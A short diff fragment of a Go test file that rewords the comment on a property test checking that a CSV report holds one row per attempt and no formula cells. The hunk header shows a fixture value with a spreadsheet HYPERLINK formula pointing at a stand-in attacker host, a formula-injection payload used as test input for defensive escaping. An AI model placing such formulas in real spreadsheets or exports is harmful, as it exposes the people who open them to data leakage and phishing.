@@ -27,7 +27,7 @@ a2,imports,'-x.go,0,screen,rejected,0.0000001,"'=HYPERLINK(""http://evil.example
 	}
 }
 
-// Whatever is in it, a reader gets a row for each attempt, and no cell is a formula.
+// TestCSVProperty checks that any report has a row for each attempt and no formulas.
 func TestCSVProperty(t *testing.T) {
 	t.Parallel()
 	rapid.Check(t, func(t *rapid.T) {
